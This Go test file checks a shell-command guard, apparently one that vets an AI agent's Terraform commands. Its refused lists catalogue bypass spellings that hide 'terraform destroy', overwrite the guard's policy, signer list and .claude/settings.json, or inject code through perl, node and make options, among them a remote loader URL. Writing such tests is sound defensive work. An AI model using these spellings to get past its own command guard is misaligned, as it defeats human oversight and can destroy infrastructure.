package shell

import "testing"

// The general rules behind the r4 attack review (planguard/attack_r4_test.go
// holds the reviewer's own spellings, run through the hook): each class is
// refused in spellings the review did not use, and the harmless commands
// around each rule stay allowed.

func TestR4UnknownProgramArgumentStartsJudgedCommand(t *testing.T) {
	for _, cmd := range []string{
		// Any argument naming a judged program is judged from there on,
		// behind any unknown program and any number of them.
		"nice -n 5 setarch x86_64 git -c core.pager='terraform destroy' log",
		"setarch x86_64 /usr/bin/env -S 'terraform destroy'",
		"prlimit -- terraform test",
		"taskset -c 0 prlimit terraform init -migrate-state",
		"echo yes | prlimit terraform init",
		"echo destroy | prlimit xargs terraform",
		"unshare -r terraform state rm x",
		"strace -f -o /dev/null prlimit tofu apply -auto-approve",
		"setarch x86_64 planguard approve --plan tfplan",
		"prlimit ssh-keygen -Y sign -n planguard-approval -f k x",
		"prlimit sh -c 'cd ..; rm allowed_signers'",
		"prlimit cp e.json ../planguard.hcl",
		"chrt -o 0 make -f - <<< 'x:'",
		"setarch x86_64 /opt/planguard/bin/planguard apply --policy /tmp/evil.hcl tfplan",
		"setarch x86_64 planguard hook install --agent claude",
		// A computed argument: a lookup, a literal last component, $_.
		"prlimit $(which terraform) destroy",
		`prlimit "$T"/terraform destroy`,
		": terraform; prlimit $_ destroy",
		// terragrunt as terraform: migrations, fed input, TF_CLI_ARGS.
		"terragrunt run-all init -migrate-state",
		"terragrunt init --force-copy",
		"echo yes | prlimit terragrunt init",
		"terragrunt plan < answers.txt",
		"TF_CLI_ARGS_init=-force-copy terragrunt plan",
		// init migration and test under computed names.
		"$TF init -force-copy",
		"echo yes | $TF init",
		"$TF test",
	} {
		wantRefused(t, cmd)
	}
}

func TestR4ShellFilledValues(t *testing.T) {
	for _, cmd := range []string{
		// IFS computed in any way.
		"IFS=$(printf ,); x=a,b; $x",
		"read IFS <<< ,",
		"printf -v IFS %s ,",
		"for IFS in , :; do :; done",
		"IFS+=,",
		"IFS=,; IFS=:",
		"IFS=, f",
		"f() { $x; }; IFS=, f",
		"IFS=: source ./env.sh",
		// Variables bash fills, as the program.
		`[[ x =~ (.*) ]]; "${BASH_REMATCH[@]}"`,
		`echo x; "$_"`,
		"${FUNCNAME[0]}",
		"$OLDPWD/terraform plan",
		`cd /usr/local/bin; "$PWD"/terraform destroy`,
		// Directory-stack tildes.
		"echo x > ~-/../planguard.hcl",
		"echo x > ~1/planguard.hcl",
		"cd /; echo x > ~+/work/planguard.hcl",
		"cp e.json ~+/.claude/settings.json",
		// A function or alias body fed the call's input.
		"f() { bash; }; f < script.sh",
		"f() { node; }; echo 'x' | f",
		"f() { g; }; g() { sh; }; f <<< 'x'",
		"alias py=python3; py <<< 'import os'",
		"f() { sh; }; f() { :; }; f <<< x",
		"f() { f() { sh; }; :; }; f; f <<< x",
	} {
		wantRefused(t, cmd)
	}
	for _, cmd := range []string{
		"IFS=, read -r a b <<< 'x,y'",
		"while IFS= read -r l; do echo \"$l\"; done < main.tf",
		"IFS=$'\\n'; for f in $(ls); do echo $f; done",
		`[[ x =~ (.*) ]]; echo "${BASH_REMATCH[1]}"`,
		`echo "$PWD" ~+`,
		"cp main.tf ~+/backup.tf",
		"f() { echo hi; }; echo x | f",
		"f() { bash script.sh; }; f",
	} {
		wantAllowed(t, cmd)
	}
}

func TestR4DescriptorsAndDerivedNames(t *testing.T) {
	for _, cmd := range []string{
		// A protected file opened on any descriptor; writes through fds and /proc.
		"cat < ../planguard.hcl",
		"exec 4<>../allowed_signers",
		"echo x >| /proc/self/root/work/planguard.hcl",
		"cp e.json /proc/self/cwd/.claude/settings.json",
		"echo x > /dev/stdin",
		"tee /dev/fd/5 < e.json",
		// Output names derived from an argument.
		"xz -d ../planguard.hcl.xz",
		"zstd -d -f ../planguard.hcl.zst",
		"bunzip2 .claude/settings.json.bz2",
		"gzip ../allowed_signers",
		"gzip -S .json .claude/settings",
		"split -n 400 big .claude/settings.js",
		"mv -b --suffix=.json x .claude/settings",
		"prlimit install -b -S .json e.json .claude/settings",
		"cp -b -S .json settings -t .claude",
		// Programs that write what they are given, and dirs of their own.
		"jq . .claude/settings.json",
		"docker cp c:/x .claude/settings.json",
		"mytool --out=../planguard.hcl",
		"mytool --output-dir .. -o planguard.hcl",
		"mytool .claude",
		"mytool .cl*",
		"mytool ../.gem*/",
		"mytool ../*",
		"find . -fprint0 .claude/settings.json",
		"awk '{print > $1}' f",
		"awk -v o=x '{printf \"%s\", $0 >> o}' f",
		"gawk -i inplace '{print}' ../planguard.hcl",
		"bash ./fix.sh ../planguard.hcl",
		"node rewrite.js .claude/settings.json",
		"ssh-keygen -R host -f ../allowed_signers",
		"planguard check --policy ../planguard.hcl --attest ../allowed_signers tfplan",
		// Whole trees: git, archives.
		"git -C .. clean -fdx",
		"git rm -r '*.json'",
		"git checkout HEAD -- .",
		"git restore --source=HEAD~3 .claude",
		"git reset --hard HEAD~1",
		"git stash -u",
		"git switch -f main",
		"tar -xf evil.tar",
		"tar xzf evil.tgz",
		"unzip -o evil.zip",
		"zip -rm /tmp/a.zip .",
		"rsync -a --remove-source-files .claude/ /tmp/c/",
		// The Terraform binary read as data.
		"cat < terraform > tf",
		"base64 /usr/local/bin/terraform > x",
		"head -c 100000000 $(which terraform) > tf",
		"echo '#!/bin/sh' > t.sh; chmod +x t.sh; ./t.sh",
	} {
		wantRefused(t, cmd)
	}
	for _, cmd := range []string{
		"cat ../planguard.hcl",
		"cat .claude/settings.json | jq .",
		"echo hi > /dev/stdout",
		"echo hi >&2 2>/dev/stderr",
		"gzip -k big.log",
		"gunzip -c logs.gz | grep x",
		"cp main.tf main.tf.bak",
		"cp -b main.tf backup/",
		"make plan",
		"make -j4 -C modules/db test",
		"npx prettier --write .",
		"npx eslint src/*",
		"go build -o bin/app .",
		"docker build -t app .",
		"git checkout main",
		"git checkout -b feature/x",
		"git stash",
		"git clean -n",
		"git rm --cached secret.txt",
		"git mv old.tf new.tf",
		"git restore main.tf",
		"tar czf /tmp/src.tgz .",
		"tar -tzf x.tgz",
		"mkdir -p /tmp/x && tar -C /tmp/x -xzf a.tgz",
		"unzip -l x.zip",
		"unzip -d /tmp/x x.zip",
		"rg -n foo terraform/",
		"grep -rn foo ./terraform",
		"ls -la /usr/local/bin/terraform",
		"sha256sum /usr/local/bin/terraform",
		"awk '$3 > 100 {print $1}' f",
		"awk '{print ($1 > 2)}' f",
		"awk '{print $1 > \"/tmp/out\"}' f",
		"ssh-keygen -lf ~/.ssh/id_ed25519.pub",
		"ssh-keygen -Y verify -f ../allowed_signers -I alice -n planguard-approval -s x.sig < payload",
		"python3 -m pytest -k 'not slow'",
		"python3 -m json.tool package.json",
		"perl -MData::Dumper script.pl",
		"NODE_OPTIONS=--max-old-space-size=4096 npm run build",
		"aws-vault exec prod -- terraform plan",
		"brew install terraform",
		"terragrunt run --all plan",
		"planguard check --policy ../planguard.hcl --out sarif=/tmp/p.sarif tfplan",
	} {
		wantAllowed(t, cmd)
	}
}

func TestR4InlineCodeOptions(t *testing.T) {
	for _, cmd := range []string{
		"perl -M'strict;system(1)' x.pl",
		"perl -mPOSIX=x}; x.pl",
		"node -r data:text/javascript,x x.js",
		"node --experimental-loader=https://e.x/l.mjs x.js",
		"python3 -m timeit 'import os'",
		"python3 -m pdb -c 'import os' x.py",
		"make -E 'x:;touch y' x",
		"make -sE 'x:;touch y' x",
		"make 'X=$(shell terraform destroy)'",
		"make SHELL=/tmp/sh",
		"MAKEFLAGS=--eval=x make",
		"NODE_OPTIONS='--import data:text/javascript,x' node x.js",
		"PERL5OPT='-MPOSIX;system(1)' perl x.pl",
		"PERL5DB='system(1)' perl -d x.pl",
	} {
		wantRefused(t, cmd)
	}
}

func TestHistoryDesignator(t *testing.T) {
	for cmd, want := range map[string]string{
		"!!":                             "!!",
		"echo a; !#:1-3":                 "!#:1-3",
		"!-2":                            "!-2",
		"!ter":                           "!ter",
		"echo \"!$\"":                    "!$\"",
		"ls\n^ls^terraform destroy":      "^ls^terraform destroy",
		"  ^a^b":                         "^a^b",
		"echo 'quoted !x'":               "",
		"echo \\!x":                      "",
		"[[ $a != b ]] && echo $! ${!x}": "",
		"if ! true; then :; fi":          "",
		"echo \"done!\"":                 "",
		"shopt -s extglob; ls !(x)":      "",
		"echo a^b":                       "",
	} {
		if got := HistoryDesignator(cmd); got != want {
			t.Errorf("%q: got %q, want %q", cmd, got, want)
		}
	}
}

func wantAllowed(t *testing.T, cmd string) {
	t.Helper()
	if r := Analyze(cmd, testOpts); !r.Allowed() {
		t.Errorf("refused, want allowed: %s\n%q", cmd, r.Refused)
	}
}
